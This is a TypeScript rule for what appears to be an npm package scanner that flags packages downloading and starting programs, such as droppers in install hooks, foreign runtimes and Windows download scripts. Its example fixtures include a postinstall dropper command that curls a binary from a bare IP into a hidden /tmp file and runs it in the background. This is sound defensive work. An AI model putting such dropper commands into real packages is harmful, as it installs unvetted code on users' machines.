import { opensPages } from '../lib/opens-pages.ts'
import type { Action, Context, Fact, Flow, Inspection, Rule, SinkKind, Text } from '../lib/types.ts'
import { isOwnFile } from './behaviour/credentials.ts'
import { guardsInWords } from './behaviour/guards.ts'
import { isStranger, placeInWords } from './behaviour/place.ts'
import type { Place } from './behaviour/place.ts'
import { bySource, findingsOf, isUnasked, isUnpacked, originOf } from './behaviour/sightings.ts'
import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
import { loadsData } from './behaviour/loaded.ts'
import { oncePerLine } from './behaviour/once.ts'
import { unasked } from './behaviour/written.ts'
import { destinationsInWords, findingAt, opening, quote, severityOf, mannerInWords } from './finding.ts'
import type { RuleFinding } from './finding.ts'
import { isForeignRepository, keeperOf } from './hosts/forge.ts'

type Starts = Extract<Fact, { kind: 'starts' }>

/** A file that comes from the network and is then started or loaded. */
export const downloadAndRun: Rule = {
  meta: {
    id: 'download-and-run',
    title: 'Downloads a program and starts it',
    severity: 'high',
    description:
      'The code fetches a file, writes it to disk and starts or loads it. Honest packages of native tools do that too: ' +
      'from the npm registry, a release page or their own host, into their own folder. From a stranger’s host, a bare ' +
      'address or without encryption, into a hidden or temporary file, or started out of sight, it is a dropper; so it is from ' +
      'the releases of somebody whom its manifest does not name, on import or out of sight.',
    references: [
      'ua-parser-js 0.7.29 (2021)',
      'axios 1.14.1 (March 2026)',
      'rspack 1.1.7 (December 2024): a miner',
      'oob-worker campaign (August 2026)',
    ],
    blindSpots: [
      'Whether a checksum is compared is not known; a download is judged by where it comes from and where it goes.',
      'A download host that is configured is not known.',
    ],
    examples: {
      flags: [
        {
          title: 'a hook starts a download from a bare address, hidden in the temporary folder',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"sh i.sh"}}',
            'i.sh': 'curl -s http://203.0.113.9/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &\n',
          },
        },
        {
          title: 'an import starts what somebody else has released',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","repository":"https://github.com/a-team/a","main":"i.js"}',
            'i.js':
              "const cp = require('child_process')\n" +
              "cp.execSync('curl -sLo tool https://github.com/other-people/bin/releases/download/v1/tool && chmod +x tool && ./tool')\n",
          },
        },
      ],
      passes: [
        {
          title: 'a hook fetches the binary of its own release',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","homepage":"https://a.example","scripts":{"postinstall":"node i.js"}}',
            'i.js':
              "const fs = require('fs'), path = require('path')\n" +
              "require('https').get('https://dl.a.example/tool-1.0.0', answer => {\n" +
              "  answer.pipe(fs.createWriteStream(path.join(__dirname, 'tool')))\n" +
              '})\n',
          },
        },
        {
          title: 'an answer says which page the browser shows',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
            'cli.js':
              "fetch('https://api.b.example/login').then(r => r.json()).then(({ id }) => {\n" +
              "  require('open')('http://localhost:8080/' + id)\n" +
              '})\n',
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const sightings = inspection.flows
      .filter(flow => (isDownload(flow) && !loadsData(flow)) || ownCode(flow, inspection) !== undefined)
      .flatMap((flow): readonly Sighting[] => {
        const place = originOf(flow, inspection, context)
        const action = weigh(
          flow,
          place,
          isHidden(flow, inspection, context) ||
            (isStranger(place) && flow.phase === 'install' && erases(inspection)),
          isDetached(flow, inspection),
          isForeignRelease(place, inspection),
        )
        return action === undefined ? [] : [{ flow, place, action, severity: severityOf(action) }]
      })
    return oncePerLine([
      ...findingsOf(sightings, group => say(group, inspection), bySource),
      ...inspection.facts.flatMap(fact => [...ofRuntime(fact, inspection), ...ofDropper(fact)]),
    ])
  },
}

const loading: ReadonlySet<SinkKind> = new Set(['native-load', 'load'])

/** Programs that unpack or make executable: what they are given does not run yet. */
const handling =
  /^(?:\S*[/\\])?(?:chmod|xattr|unzip|tar|gunzip|7z|mv|cp|mkdir|rm|ls|test|file|sha\d*sum|shasum|certutil|expand)\b/i

/** Programs that start none of their arguments. */
const passive =
  /^(?:git\s+(?:commit|tag|add|checkout|push|log|branch)|echo|printf|mkdir|ls|rm|rmdir|cat|touch|test|which|where)\s/i

function isDownload(flow: Flow): boolean {
  const { source, sink, hops, phase } = flow
  if (source.kind !== 'network') return false
  if (loading.has(sink.kind))
    return (
      sink.role === 'path' ||
      sink.kind === 'native-load' ||
      isUnpacked(flow) ||
      (sink.destinations.length > 0 && sink.destinations.every(path => path.endsWith('.node')))
    )
  if (sink.kind !== 'command') return false
  // Lists of versions are fetched to know where a program lies; the program itself is no JSON.
  if (!isUnasked({ phase }) && hops.some(({ label }) => label === 'as JSON')) return false
  if (sink.role === 'file') return !sink.destinations.every(command => handling.test(command.trim()))
  // No program is called like an address: that one is shown in a browser.
  if (opensPages(sink.api) && sink.destinations.every(isOpened)) return false
  // An answer that is part of a message or a name is nothing those programs start.
  if (sink.destinations.every(command => passive.test(command.trim()) && !/[;&|`\n]|\$\(/.test(command)))
    return false
  return (
    sink.role === 'command' &&
    sink.destinations.some(
      command => command.replaceAll('\u0001', '').trim() !== '' && !/^["']?https?:\/\//i.test(command.trim()),
    )
  )
}

/** The file of the package that is overwritten with what a server answers: what was inspected there runs only once. */
function ownCode({ source, sink }: Flow, inspection: Inspection): string | undefined {
  if (source.kind !== 'network' || sink.kind !== 'write') return undefined
  const paths = sink.destinations.flatMap(path => /^<package>\/(.+\.[cm]?js)$/.exec(path)?.[1] ?? [])
  return paths.find(path => inspection.files.some(file => file.path === path && file.phase !== 'dormant'))
}

/** A page, or what the user's own program for such things is asked to show. */
function isOpened(command: string): boolean {
  return /^["']?(?:https?:|\u0001)/i.test(command)
}

/** Started out of sight, or from a place nobody looks at. A check of a version is silent too, but it is waited for. */
function isHidden(flow: Flow, inspection: Inspection, { name }: Context): boolean {
  const { sink, phase } = flow
  // A program that its user started keeps what it fetches in a folder of its own name: `~/.tool/bin`.
  const isKept = (path: Text): boolean => phase === 'run' && isOwnFile(path, name)
  if (sink.destinations.some(path => isOddPath(path) && !isKept(path))) return true
  return startsAt(inspection, sink.at).some(
    ({ manner }) => manner.includes('detached') || manner.includes('output-hidden'),
  )
}

/** A hook that removes itself, or takes itself out of the manifest: who looks afterwards shall not find it. */
function erases({ facts, hooks }: Inspection): boolean {
  const own = new Set(hooks.flatMap(({ starts }) => starts.map(path => `<package>/${path}`)))
  return facts.some(
    fact =>
      fact.phase === 'install' &&
      ((fact.kind === 'deletes' && fact.paths.some(path => own.has(path))) ||
        (fact.kind === 'writes' && fact.paths.includes('<package>/package.json'))),
  )
}

function isDetached({ sink }: Flow, inspection: Inspection): boolean {
  return startsAt(inspection, sink.at).some(({ manner }) => manner.includes('detached'))
}

/** A release of somebody whom the package does not name: anybody can put files there. */
function isForeignRelease({ kind, host }: Place, { manifest }: Inspection): boolean {
  if (kind !== 'supply' || host === undefined) return false
  return isForeignRepository(`${host.name}${host.path}`, manifest)
}

function whose(place: Place, inspection: Inspection): string | undefined {
  if (!isForeignRelease(place, inspection)) return undefined
  const keeper = keeperOf(`${place.host?.name}${place.host?.path}`)
  return `the releases of ${keeper}, who is named nowhere in its manifest,`
}

/** A dot file, a temporary or shared folder, a name that pretends to be another kind of file. */
function isOddPath(text: string): boolean {
  return /(?:^|[\s"'/\\])(?:\/tmp|\/var\/tmp|\/dev\/shm|\/private\/tmp|%temp%|\/ProgramData|~\/AppData|~\/Library\/Caches)\b|[/\\]\.[\w-]{1,40}(?:[\s"']|$)/i.test(
    text,
  )
}

/** Under a name that no listing of files shows, or where nobody looks. */
function isBuried({ sink }: Flow): boolean {
  return sink.destinations.some(text => isOddPath(text) || /^["']?\.[\w%-]{1,40}["']?$/.test(text.trim()))
}

function startsAt(inspection: Inspection, at: Flow['sink']['at']): readonly Starts[] {
  return inspection.facts.filter(
    (fact): fact is Starts => fact.kind === 'starts' && fact.at.path === at.path && fact.at.line === at.line,
  )
}

function weigh(
  flow: Flow,
  place: Place,
  hidden: boolean,
  detached: boolean,
  foreignRelease: boolean,
): Action | undefined {
  if (place.kind === 'local') return undefined
  const stranger = isStranger(place)
  if (isUnasked(flow) && !flow.byCall) {
    if (foreignRelease && flow.certain && (flow.phase === 'import' || hidden)) return 'ask'
    if (place.kind === 'capture' || (stranger && (hidden || place.plain)))
      return flow.certain ? 'block' : 'ask'
    // That an answer is perhaps part of a path says little about the file that lies there.
    if (stranger) return flow.certain || flow.sink.role !== 'path' ? 'ask' : 'note'
    // A homepage is the author's claim, and honest programs are fetched by a hook or end with their user.
    if (place.kind === 'own' && detached && flow.certain && (flow.phase === 'import' || isBuried(flow)))
      return 'ask'
    // A mirror from the environment or a redirect is unknown too: only a start out of sight tells.
    return place.kind === 'unknown' && hidden && flow.certain ? 'ask' : 'note'
  }
  if (place.kind === 'capture') return flow.certain && hidden ? 'block' : 'ask'
  return stranger ? (hidden && flow.certain ? 'ask' : 'note') : undefined
}

/** Another runtime than the one npm runs on, by its own path: `…/bun`, `…/deno`, `…/uv`. */
const runtime =
  /^\S*[/\\](?:bun|deno|uv|python[0-9.]*|node|nw)(?:\.exe)?\s+\S*?([\w@./<>-]+\.(?:[cm]?[jt]s|py))\b|^\S*[/\\](?:bun|deno|uv)(?:\.exe)?\s+run\b/

/** A hook that fetches a runtime to run the package’s own code out of reach of what watches Node. */
function ofRuntime(fact: Fact, inspection: Inspection): readonly RuleFinding[] {
  if (fact.kind !== 'starts' || fact.phase !== 'install') return []
  const command = fact.commands.find(text => runtime.test(text))
  const fetched = inspection.facts.find(
    other => other.kind === 'contacts' && other.phase === 'install' && other.at.path === fact.at.path,
  )
  if (command === undefined || fetched === undefined) return []
  const message =
    `${opening({ phase: 'install' })} fetches another runtime and runs code with it: ${quote(command)}. ` +
    'Code that npm could run by itself has one reason to avoid Node: not to be seen. Do not install it.'
  return [findingAt(fact.at, 'install', { action: 'block', severity: 'critical', message })]
}

/** What scripts of Windows fetch, store and start with, by the names of its objects. */
const fetching = /\b(?:MSXML2\.(?:Server)?XMLHTTP|WinHttp\.WinHttpRequest|Microsoft\.XMLHTTP)\b/i

/** A script for Windows that is written at that moment and fetches something: it is there to be started. */
function ofDropper(fact: Fact): readonly RuleFinding[] {
  if (
    fact.kind !== 'writes' ||
    !unasked(fact) ||
    !fact.paths.some(path => /\.(?:vbs|vbe|jse?|wsf|hta)$/i.test(path))
  )
    return []
  const text = fact.contents.find(content => fetching.test(content))
  if (text === undefined) return []
  const message =
    `${opening(fact)} writes a script for Windows that downloads (${quote(text)}). Nobody has inspected what that script ` +
    'fetches. Do not install it.'
  return [findingAt(fact.at, fact.phase, { action: 'block', severity: 'critical', message })]
}

function say(group: SightingGroup, inspection: Inspection): string {
  const [{ flow, place, action }] = group
  const from = place.host?.shown ?? destinationsInWords([flow.source.name])
  const how = mannerInWords(startsAt(inspection, flow.sink.at).flatMap(fact => fact.manner))
  const what = flow.sink.destinations.find(text => text !== 'undefined' && text !== 'null')
  const started = what === undefined ? 'it' : quote(what)
  const own = ownCode(flow, inspection)
  const act =
    own === undefined
      ? `${flow.sink.kind === 'command' ? 'starts' : 'loads'} ${started}${how}`
      : `puts it in the place of its own ${quote(own)}`
  // What stands in an address itself is fetched from nowhere.
  const got = /^data:/i.test(flow.source.name)
    ? 'takes a file out of an address that holds it (data:)'
    : `downloads a file from ${whose(place, inspection) ?? `${from}, ${placeInWords(place)},`}`
  const told = `${opening(flow)} ${got} and ${act}${guardsInWords(flow.guards)}.`
  return action === 'note'
    ? told
    : `${told} Nobody has inspected that program. Do not install this package unless you know that host.`
}
